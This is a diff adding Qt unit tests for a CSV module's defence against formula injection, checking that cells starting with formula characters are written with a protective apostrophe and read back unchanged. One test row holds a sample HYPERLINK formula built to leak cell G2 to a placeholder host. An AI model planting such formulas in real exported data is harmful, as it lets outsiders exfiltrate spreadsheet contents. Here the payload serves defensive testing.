@@ -16,6 +16,10 @@ private slots:
     void entryRules_data();
     void entryRules();
     void header();
+    void formulasAreWrittenAsText_data();
+    void formulasAreWrittenAsText();
+    void cellsFromElsewhereKeepTheirApostrophe();
+    void recordsAreCountedUpToTheLimit();
 };
 
 void TestCsv::parse_data() {
@@ -135,6 +139,65 @@ void TestCsv::entryRules() {
     QCOMPARE(value.isNull(), stored.isNull());
     if (!stored.isNull())
         QCOMPARE(value.toString(), stored.toString());
+}
+
+// What a text cell is written as; reading that gives the text back, always.
+void TestCsv::formulasAreWrittenAsText_data() {
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<QString>("written");
+    QTest::newRow("valid: plain text") << "FLAT A"
+                                       << "FLAT A";
+    QTest::newRow("valid: empty") << ""
+                                  << "";
+    QTest::newRow("invalid: formula") << "=1+2"
+                                      << "'=1+2";
+    QTest::newRow("invalid: hyperlink formula") << "=HYPERLINK(\"http://x?leak=\"&G2,\"x\")"
+                                                << "'=HYPERLINK(\"http://x?leak=\"&G2,\"x\")";
+    QTest::newRow("invalid: plus") << "+41 22"
+                                   << "'+41 22";
+    QTest::newRow("invalid: minus") << "-2+3"
+                                    << "'-2+3";
+    QTest::newRow("invalid: at sign") << "@SUM(A1)"
+                                      << "'@SUM(A1)";
+    QTest::newRow("invalid: tab") << "\tx"
+                                  << "'\tx";
+    QTest::newRow("invalid: carriage return") << "\rx"
+                                              << "'\rx";
+    QTest::newRow("boundary: apostrophe alone") << "'"
+                                                << "''";
+    QTest::newRow("boundary: apostrophe and a letter") << "'abc"
+                                                       << "''abc";
+    QTest::newRow("boundary: apostrophe and a formula") << "'=1"
+                                                        << "''=1";
+    QTest::newRow("boundary: two apostrophes") << "''"
+                                               << "'''";
+    QTest::newRow("boundary: formula sign later in the text") << "A=1"
+                                                              << "A=1";
+}
+
+void TestCsv::formulasAreWrittenAsText() {
+    QFETCH(QString, text);
+    QFETCH(QString, written);
+    QCOMPARE(csv::protectedCell(text), written);
+    QCOMPARE(csv::unprotectedCell(written), text);
+}
+
+// A cell of a file from elsewhere is read as it stands unless it begins as a written one does:
+// a spreadsheet's own text mark before a letter or a digit stays.
+void TestCsv::cellsFromElsewhereKeepTheirApostrophe() {
+    for (const QString& cell : {QStringLiteral("'abc"), QStringLiteral("'5"), QStringLiteral("=1"),
+                                QStringLiteral("a'=1")})
+        QCOMPARE(csv::unprotectedCell(cell), cell);
+    QCOMPARE(csv::unprotectedCell(QStringLiteral("'+5")), QStringLiteral("+5"));
+}
+
+void TestCsv::recordsAreCountedUpToTheLimit() {
+    const QString text = QStringLiteral("H\r\n\r\n\"a\r\nb\"\r\nc\r\n");
+    QCOMPARE(csv::countRecords(text, 10), 3); // the empty line is none, the quoted break one
+    QCOMPARE(csv::countRecords(text, 3), 3);
+    QCOMPARE(csv::countRecords(text, 2), 3);
+    QCOMPARE(csv::countRecords(text, 1), 2);
+    QCOMPARE(csv::countRecords(QString(), 5), 0);
 }
 
 void TestCsv::header() {
